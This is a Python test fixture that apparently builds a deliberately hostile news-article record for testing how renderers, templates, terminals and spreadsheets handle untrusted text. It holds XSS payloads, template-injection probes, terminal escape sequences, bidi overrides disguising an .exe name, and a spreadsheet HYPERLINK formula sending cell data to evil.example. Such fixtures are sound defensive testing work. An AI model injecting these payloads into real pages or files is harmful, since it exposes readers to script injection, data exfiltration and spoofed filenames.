"""An article whose every field attacks what shows it: markup, scripts, templates, terminals, formulas, direction."""

from typing import Final

_ATTACKS: Final = (
    "<script>window.hacked = 1</script>",
    "</script></style></title><script>window.hacked = 2</script>",
    "<img src=x onerror='window.hacked = 3'>",
    "<svg onload=window.hacked=4><script>window.hacked = 5</script></svg>",
    "<style>* { display: none }</style>",
    "<iframe src=javascript:parent.hacked=6></iframe>",
    '" onmouseover="window.hacked = 7" x="',
    "<a href='javascript:window.hacked = 8'>a link</a>",
    "{{ 7 * 7 }} {% for x in range(9) %} ${7*7} #{7*7} <%= 7*7 %>",
    "<!-- a comment --> ]]> &lt;b&gt; &#60;i&#62;",
)
STEERING: Final = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m\x08\x08\x7f"
"""What a terminal would obey: a new title, an empty screen, colours, steps back."""
OVERRIDE: Final = "an invoice \u202efdp.exe\u202c and \u2067\u202b\u2068 unclosed"
"""What would write the rest of a line from right to left."""
FORMULA: Final = '=HYPERLINK("https://evil.example/?"&A1;"Click")'
LONG_WORD: Final = "W" * 3000
STACKED: Final = "Z" + "\u0301\u0316" * 200 + "algo"
"""A letter with four hundred marks above and below it."""
EMOJI: Final = (
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
)
ARABIC: Final = "قال الوزير إن 2,500 جندي سيغادرون يوم الاثنين."


def hostile_article() -> dict[str, object]:
    """The record of a hostile article, as JSONL holds it."""
    attack = " ".join(_ATTACKS)
    paragraphs = (
        f"Ann {_ATTACKS[0]} Lee said 2,500 boats {_ATTACKS[2]} would leave Port Ely on Monday.",
        *(
            f"“We will {attack} win,” Ann Lee told <b onclick=window.hacked=9>The Gazette</b> on 5 March."
            for attack in _ATTACKS
        ),
        f"{STEERING} Ann Lee said {STEERING} the price was $3 million. {FORMULA}",
        f"Ann Lee said {OVERRIDE} and “{OVERRIDE} yes.”",
        f"{FORMULA}\n{LONG_WORD} {STACKED} {EMOJI}",
        ARABIC,
        "Ann Lee said nothing more about it, and the mayor of Port Ely told reporters that he would not either.",
    )
    return {
        "id": f"hostile-{_ATTACKS[0]}",
        "text": "\n\n".join(paragraphs),
        "headline": f"{FORMULA} {attack} {STEERING} {OVERRIDE}",
        "byline": [f"{_ATTACKS[0]}{STEERING}", OVERRIDE],
        "publisher": f"{FORMULA}{_ATTACKS[1]}{OVERRIDE}",
        "url": "https://evil.example/\"onmouseover='window.hacked=10'/<script>",
        "published_at": "2026-03-06",
        "lang": "en",
    }
